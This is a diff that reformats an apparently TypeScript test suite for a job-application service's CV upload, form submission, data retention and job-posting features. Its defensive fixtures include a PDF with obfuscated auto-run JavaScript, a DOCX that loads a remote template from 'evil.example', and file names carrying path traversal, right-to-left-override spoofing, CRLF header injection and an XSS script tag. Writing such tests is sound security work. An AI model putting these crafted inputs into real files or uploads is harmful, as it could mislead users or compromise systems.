@@ -52,11 +52,18 @@ async function askUpload(file: { filename: string; mimetype: string; size: numbe
 
 /** Asks for an address and PUTs `bytes` to it, as the browser does. */
 let emails = 0;
-async function upload(bytes: Buffer, { filename = 'cv.pdf', mimetype = PDF as string, email = `candidate${++emails}@example.com`, size = bytes.length } = {}) {
+async function upload(
+  bytes: Buffer,
+  { filename = 'cv.pdf', mimetype = PDF as string, email = `candidate${++emails}@example.com`, size = bytes.length } = {},
+) {
   const res = await askUpload({ filename, mimetype, size }, email);
   expect(res.status).toBe(200);
   const target = (await res.json()) as { uploadUrl: string; fileId: string; expiresAt: string; headers: Record<string, string> };
-  const put = await ctx.api.request(target.uploadUrl, { method: 'PUT', headers: { 'content-type': mimetype }, body: new Uint8Array(bytes) });
+  const put = await ctx.api.request(target.uploadUrl, {
+    method: 'PUT',
+    headers: { 'content-type': mimetype },
+    body: new Uint8Array(bytes),
+  });
   return { target, put };
 }
 
@@ -172,7 +179,11 @@ describe('PUT to the upload address', () => {
     const res = await askUpload({ filename: 'cv.pdf', mimetype: PDF, size: CV_MAX_BYTES });
     const { uploadUrl } = (await res.json()) as { uploadUrl: string };
     // Sent without a length, so the byte count while streaming is what stops it.
-    const over = await ctx.api.request(uploadUrl, { method: 'PUT', headers: { 'content-type': PDF }, body: new Uint8Array(pdfOfSize(CV_MAX_BYTES + 1)) });
+    const over = await ctx.api.request(uploadUrl, {
+      method: 'PUT',
+      headers: { 'content-type': PDF },
+      body: new Uint8Array(pdfOfSize(CV_MAX_BYTES + 1)),
+    });
     expect(over.status).toBe(413);
     const empty = await upload(Buffer.alloc(0), { size: 100 });
     expect(empty.put.status).toBe(400);
@@ -189,8 +200,30 @@ describe('PUT to the upload address', () => {
 
   it.each([
     ['RTF saved as .doc', Buffer.from('{\\rtf1\\ansi Curriculum}'), 'cv.doc', CV_TYPES[1], 'fileRtf'],
-    ['a PDF that runs JavaScript', Buffer.from(pdfFile().toString('latin1').replace('/Type /Catalog', '/Type /Catalog /OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>'), 'latin1'), 'cv.pdf', PDF, 'fileMacro'],
-    ['a DOCX that loads a remote template', docxFile({ extra: [{ name: 'word/_rels/settings.xml.rels', data: '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>' }] }), 'cv.docx', DOCX, 'fileMacro'],
+    [
+      'a PDF that runs JavaScript',
+      Buffer.from(
+        pdfFile().toString('latin1').replace('/Type /Catalog', '/Type /Catalog /OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>'),
+        'latin1',
+      ),
+      'cv.pdf',
+      PDF,
+      'fileMacro',
+    ],
+    [
+      'a DOCX that loads a remote template',
+      docxFile({
+        extra: [
+          {
+            name: 'word/_rels/settings.xml.rels',
+            data: '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
+          },
+        ],
+      }),
+      'cv.docx',
+      DOCX,
+      'fileMacro',
+    ],
   ])('refuses %s with its own message', async (_name, bytes, filename, mimetype, message) => {
     const { put } = await upload(bytes, { filename, mimetype });
     expect(put.status).toBe(422);
@@ -198,7 +231,14 @@ describe('PUT to the upload address', () => {
   });
 
   it('accepts a DOCX with links to web pages', async () => {
-    const linked = docxFile({ extra: [{ name: 'word/_rels/document.xml.rels', data: '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.linkedin.com/in/someone" TargetMode="External"/></Relationships>' }] });
+    const linked = docxFile({
+      extra: [
+        {
+          name: 'word/_rels/document.xml.rels',
+          data: '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.linkedin.com/in/someone" TargetMode="External"/></Relationships>',
+        },
+      ],
+    });
     expect((await upload(linked, { filename: 'cv.docx', mimetype: DOCX })).put.status).toBe(204);
   });
 
@@ -207,14 +247,22 @@ describe('PUT to the upload address', () => {
     expect(short.put.status).toBe(400);
     const res = await askUpload({ filename: 'cv.pdf', mimetype: PDF, size: pdfFile().length });
     const { uploadUrl } = (await res.json()) as { uploadUrl: string };
-    const wrongType = await ctx.api.request(uploadUrl, { method: 'PUT', headers: { 'content-type': 'text/html' }, body: new Uint8Array(pdfFile()) });
+    const wrongType = await ctx.api.request(uploadUrl, {
+      method: 'PUT',
+      headers: { 'content-type': 'text/html' },
+      body: new Uint8Array(pdfFile()),
+    });
     expect(wrongType.status).toBe(415);
   });
 
   it('refuses tampered, expired and replayed addresses', async () => {
     const { target, put } = await upload(pdfFile());
     expect(put.status).toBe(204);
-    const replay = await ctx.api.request(target.uploadUrl, { method: 'PUT', headers: { 'content-type': PDF }, body: new Uint8Array(pdfFile()) });
+    const replay = await ctx.api.request(target.uploadUrl, {
+      method: 'PUT',
+      headers: { 'content-type': PDF },
+      body: new Uint8Array(pdfFile()),
+    });
     expect(replay.status).toBe(409);
 
     const res = await askUpload({ filename: 'cv.pdf', mimetype: PDF, size: pdfFile().length });
@@ -227,11 +275,22 @@ describe('PUT to the upload address', () => {
       const tampered = await ctx.api.request(address, { method: 'PUT', headers: { 'content-type': PDF }, body: new Uint8Array(pdfFile()) });
       expect(tampered.status, address).toBe(403);
     }
-    const malformed = await ctx.api.request(`${url.pathname}?expires=${url.searchParams.get('expires')}&sig=${encodeURIComponent('é'.repeat(43))}`, { method: 'PUT', headers: { 'content-type': PDF }, body: new Uint8Array(pdfFile()) });
+    const malformed = await ctx.api.request(
+      `${url.pathname}?expires=${url.searchParams.get('expires')}&sig=${encodeURIComponent('é'.repeat(43))}`,
+      { method: 'PUT', headers: { 'content-type': PDF }, body: new Uint8Array(pdfFile()) },
+    );
     expect(malformed.status).toBe(422);
 
-    const old = await requestUpload(ctx.database.db, { file: { filename: 'cv.pdf', mimetype: PDF, size: pdfFile().length }, email: 'ana@example.com', info: '', locale: 'en' }, { ip: freshIp(), now: new Date(Date.now() - 16 * 60_000) });
-    const expired = await ctx.api.request(old.uploadUrl, { method: 'PUT', headers: { 'content-type': PDF }, body: new Uint8Array(pdfFile()) });
+    const old = await requestUpload(
+      ctx.database.db,
+      { file: { filename: 'cv.pdf', mimetype: PDF, size: pdfFile().length }, email: 'ana@example.com', info: '', locale: 'en' },
+      { ip: freshIp(), now: new Date(Date.now() - 16 * 60_000) },
+    );
+    const expired = await ctx.api.request(old.uploadUrl, {
+      method: 'PUT',
+      headers: { 'content-type': PDF },
+      body: new Uint8Array(pdfFile()),
+    });
     expect(expired.status).toBe(403);
     expect(((await expired.json()) as { detail: string }).detail).toMatch(/expired/);
   });
@@ -243,7 +302,14 @@ describe('PUT to the upload address', () => {
       expect(res.status).toBe(422);
       expect(((await res.json()) as { errors: { message: string }[] }).errors[0]!.message).toBe('invalidCharacters');
     }
-    const names = ['../../etc/passwd.pdf', 'cv.p\u202Edf', 'invoice\u202Efdp.exe.pdf', 'cv\r\nContent-Type: text/html.pdf', 'cv\u0001\u001b[31m.pdf', `${'ñ'.repeat(300)}.pdf`];
+    const names = [
+      '../../etc/passwd.pdf',
+      'cv.p\u202Edf',
+      'invoice\u202Efdp.exe.pdf',
+      'cv\r\nContent-Type: text/html.pdf',
+      'cv\u0001\u001b[31m.pdf',
+      `${'ñ'.repeat(300)}.pdf`,
+    ];
     for (const filename of names) {
       const { target, put } = await upload(pdfFile(), { filename });
       expect(put.status).toBe(204);
@@ -265,17 +331,30 @@ describe('sending the form with the file', () => {
     expect(row!.status).toBe('attached');
     const [lead] = await ctx.database.db.select().from(leads).where(eq(leads.id, row!.leadId!));
     expect(lead).toMatchObject({ type: 'job_application', email: 'ana@example.com', locale: 'es', consent: { notice: 'Forms.consent' } });
-    expect(lead!.form).toMatchObject({ target: { kind: 'job', id: jobId }, job: { title: 'Nimbus - Platform Engineer' }, availabilityWeeks: 4, fileId: target.fileId });
+    expect(lead!.form).toMatchObject({
+      target: { kind: 'job', id: jobId },
+      job: { title: 'Nimbus - Platform Engineer' },
+      availabilityWeeks: 4,
+      fileId: target.fileId,
+    });
     // What `npm run leads -- cv <id>` copies out.
     expect(await readLeadCv(ctx.database.db, lead!.id)).toEqual({ filename: 'cv.pdf', bytes: pdfFile() });
-    const { rows } = await ctx.database.query(`select data from pgboss.job where name = 'mail-send' and data->>'key' like $1`, [`application-%:${lead!.id}`]);
+    const { rows } = await ctx.database.query(`select data from pgboss.job where name = 'mail-send' and data->>'key' like $1`, [
+      `application-%:${lead!.id}`,
+    ]);
     expect(rows.map((r) => (r.data as { to: string }).to).sort()).toEqual(['ana@example.com', 'sales@acme-digital.example']);
   });
 
   it('stores a CV sent on spec with its hint', async () => {
-    const res = await askUpload({ filename: 'cv.docx', mimetype: DOCX, size: docxFile().length }, 'luis@example.com', 'Data engineer, remote');
+    const res = await askUpload(
+      { filename: 'cv.docx', mimetype: DOCX, size: docxFile().length },
+      'luis@example.com',
+      'Data engineer, remote',
+    );
     const { uploadUrl, fileId } = (await res.json()) as { uploadUrl: string; fileId: string };
-    expect((await ctx.api.request(uploadUrl, { method: 'PUT', headers: { 'content-type': DOCX }, body: new Uint8Array(docxFile()) })).status).toBe(204);
+    expect(
+      (await ctx.api.request(uploadUrl, { method: 'PUT', headers: { 'content-type': DOCX }, body: new Uint8Array(docxFile()) })).status,
+    ).toBe(204);
     expect((await sendForm({ type: 'cv', form: { fileId }, context, traps })).status).toBe(200);
     const [lead] = await ctx.database.db.select().from(leads).where(eq(leads.email, 'luis@example.com'));
     expect(lead).toMatchObject({ type: 'cv', form: { email: 'luis@example.com', info: 'Data engineer, remote', fileId } });
@@ -283,7 +362,9 @@ describe('sending the form with the file', () => {
 
   it('refuses a file that is missing, not yet uploaded, already used or of another address', async () => {
     const { target } = await upload(pdfFile(), { email: 'eva@example.com' });
-    const pending = (await (await askUpload({ filename: 'cv.pdf', mimetype: PDF, size: 500 }, 'eva@example.com')).json()) as { fileId: string };
+    const pending = (await (await askUpload({ filename: 'cv.pdf', mimetype: PDF, size: 500 }, 'eva@example.com')).json()) as {
+      fileId: string;
+    };
     const before = (await ctx.database.db.select().from(leads)).length;
     for (const fileId of ['C'.repeat(22), pending.fileId]) {
       const res = await sendForm(application(fileId, { email: 'eva@example.com' }));
@@ -301,7 +382,13 @@ describe('sending the form with the file', () => {
     const gone = await sendForm(application(target.fileId, { target: { kind: 'job', id: 'no-such-job' } }));
     expect(gone.status).toBe(422);
     expect(((await gone.json()) as { errors: { message: string }[] }).errors[0]!.message).toBe('jobClosed');
-    for (const [field, value, message] of [['availabilityWeeks', -1, 'wholeWeeks'], ['availabilityWeeks', 1.5, 'wholeWeeks'], ['phone', '12ab', 'phoneFormat'], ['name', 'Al', 'nameMin'], ['noticePeriod', '', 'required']] as const) {
+    for (const [field, value, message] of [
+      ['availabilityWeeks', -1, 'wholeWeeks'],
+      ['availabilityWeeks', 1.5, 'wholeWeeks'],
+      ['phone', '12ab', 'phoneFormat'],
+      ['name', 'Al', 'nameMin'],
+      ['noticePeriod', '', 'required'],
+    ] as const) {
       const res = await sendForm(application(target.fileId, { [field]: value }));
       expect(res.status).toBe(422);
       const { errors } = (await res.json()) as { errors: { path: string; message: string }[] };
@@ -321,7 +408,15 @@ describe('after a submission', () => {
     const cv = pdfFile('Jürgen Weiß');
     const { target } = await upload(cv, { filename: 'Lebenslauf Jürgen\u202E.pdf', email: 'juergen@example.com' });
     const { submitApplication } = await import('./applications-service');
-    await submitApplication(ctx.database.db, queue, { ...application(target.fileId, { name: 'Jürgen Weiß', email: 'juergen@example.com' }), context: { ...context, locale: 'de' } } as never, { ip: freshIp() });
+    await submitApplication(
+      ctx.database.db,
+      queue,
+      {
+        ...application(target.fileId, { name: 'Jürgen Weiß', email: 'juergen@example.com' }),
+        context: { ...context, locale: 'de' },
+      } as never,
+      { ip: freshIp() },
+    );
     const mails = await eventually(() => {
       const found = sink.messages.filter((m) => JSON.stringify([m.to, m.replyTo]).includes('juergen@example.com'));
       if (found.length < 2) throw new Error(`${found.length} mails`);
@@ -349,8 +444,14 @@ describe('after a submission', () => {
     const { target: abandoned } = await upload(pdfFile(), { email: 'left@example.com' });
     const [oldRow] = await ctx.database.db.select().from(uploads).where(eq(uploads.id, old.fileId));
     const [abandonedRow] = await ctx.database.db.select().from(uploads).where(eq(uploads.id, abandoned.fileId));
-    await ctx.database.db.update(leads).set({ createdAt: new Date(Date.now() - 366 * 24 * 3600 * 1000) }).where(eq(leads.id, oldRow!.leadId!));
-    await ctx.database.db.update(uploads).set({ createdAt: new Date(Date.now() - 25 * 3600 * 1000) }).where(eq(uploads.id, abandoned.fileId));
+    await ctx.database.db
+      .update(leads)
+      .set({ createdAt: new Date(Date.now() - 366 * 24 * 3600 * 1000) })
+      .where(eq(leads.id, oldRow!.leadId!));
+    await ctx.database.db
+      .update(uploads)
+      .set({ createdAt: new Date(Date.now() - 25 * 3600 * 1000) })
+      .where(eq(uploads.id, abandoned.fileId));
 
     const removed = await removeExpiredApplications(ctx.database.db);
     expect(removed).toEqual({ applications: 1, abandoned: 1 });
@@ -365,12 +466,22 @@ describe('after a submission', () => {
     const { target } = await upload(pdfFile(), { email: 'erase@example.com' });
     expect((await sendForm(application(target.fileId, { email: 'erase@example.com' }))).status).toBe(200);
     const [row] = await ctx.database.db.select().from(uploads).where(eq(uploads.id, target.fileId));
-    const mailsOf = async () => (await ctx.database.query(`select id from pgboss.job where name = 'mail-send' and singleton_key like $1`, [`application-%:${row!.leadId}`])).rows;
+    const mailsOf = async () =>
+      (
+        await ctx.database.query(`select id from pgboss.job where name = 'mail-send' and singleton_key like $1`, [
+          `application-%:${row!.leadId}`,
+        ])
+      ).rows;
     expect(await mailsOf()).toHaveLength(2);
-    const allMails = async () => (await ctx.database.query(`select count(*)::int as n from pgboss.job where name = 'mail-send'`)).rows[0]!.n as number;
+    const allMails = async () =>
+      (await ctx.database.query(`select count(*)::int as n from pgboss.job where name = 'mail-send'`)).rows[0]!.n as number;
     const queue = new Queue(ctx.database, { work: false });
     // Another lead's mail whose key starts like this one's (its id would start with this id).
-    const [own] = (await ctx.database.query(`select data, singleton_key from pgboss.job where name = 'mail-send' and singleton_key like $1 limit 1`, [`application-%:${row!.leadId}`])).rows as { data: object; singleton_key: string }[];
+    const [own] = (
+      await ctx.database.query(`select data, singleton_key from pgboss.job where name = 'mail-send' and singleton_key like $1 limit 1`, [
+        `application-%:${row!.leadId}`,
+      ])
+    ).rows as { data: object; singleton_key: string }[];
     const neighbour = `${own!.singleton_key}x`;
     await queue.send(QueueName.mail, own!.data, { singletonKey: neighbour });
     const before = await allMails();
@@ -391,20 +502,40 @@ describe('after a submission', () => {
 
 describe('open positions', () => {
   it('are opened from a checked file with sanitized text, updated, and closed (then applications are refused)', async () => {
-    await savePosition(ctx.database.db, { id: 'senior-data-engineer', role: 'Senior Data Engineer', locale: 'en', location: 'Remote (EU)', description: '<p>Build pipelines.</p><script>alert(1)</script>' });
+    await savePosition(ctx.database.db, {
+      id: 'senior-data-engineer',
+      role: 'Senior Data Engineer',
+      locale: 'en',
+      location: 'Remote (EU)',
+      description: '<p>Build pipelines.</p><script>alert(1)</script>',
+    });
     let open = await openPositions(ctx.database.db);
-    expect(open.find((p) => p.id === 'senior-data-engineer')).toMatchObject({ role: 'Senior Data Engineer', description: '<p>Build pipelines.</p>' });
-    await savePosition(ctx.database.db, { id: 'senior-data-engineer', role: 'Lead Data Engineer', locale: 'en', description: '<p>Lead.</p>' });
+    expect(open.find((p) => p.id === 'senior-data-engineer')).toMatchObject({
+      role: 'Senior Data Engineer',
+      description: '<p>Build pipelines.</p>',
+    });
+    await savePosition(ctx.database.db, {
+      id: 'senior-data-engineer',
+      role: 'Lead Data Engineer',
+      locale: 'en',
+      description: '<p>Lead.</p>',
+    });
     open = await openPositions(ctx.database.db);
     expect(open.filter((p) => p.id === 'senior-data-engineer').map((p) => p.role)).toEqual(['Lead Data Engineer']);
     // Everything valid but the id: refused for the id.
-    await expect(savePosition(ctx.database.db, { id: 'Bad Id', role: 'Data Engineer', locale: 'en', description: '<p>x</p>' })).rejects.toMatchObject({ issues: [expect.objectContaining({ path: ['id'] })] });
+    await expect(
+      savePosition(ctx.database.db, { id: 'Bad Id', role: 'Data Engineer', locale: 'en', description: '<p>x</p>' }),
+    ).rejects.toMatchObject({ issues: [expect.objectContaining({ path: ['id'] })] });
 
     const { target } = await upload(pdfFile(), { email: 'lead-data@example.com' });
     expect(await closePosition(ctx.database.db, 'senior-data-engineer')).toBe(true);
     expect((await openPositions(ctx.database.db)).some((p) => p.id === 'senior-data-engineer')).toBe(false);
-    const res = await sendForm(application(target.fileId, { email: 'lead-data@example.com', target: { kind: 'position', id: 'senior-data-engineer' } }));
+    const res = await sendForm(
+      application(target.fileId, { email: 'lead-data@example.com', target: { kind: 'position', id: 'senior-data-engineer' } }),
+    );
     expect(res.status).toBe(422);
-    expect(((await res.json()) as { errors: { path: string; message: string }[] }).errors).toContainEqual(expect.objectContaining({ message: 'jobClosed' }));
+    expect(((await res.json()) as { errors: { path: string; message: string }[] }).errors).toContainEqual(
+      expect.objectContaining({ message: 'jobClosed' }),
+    );
   });
 });
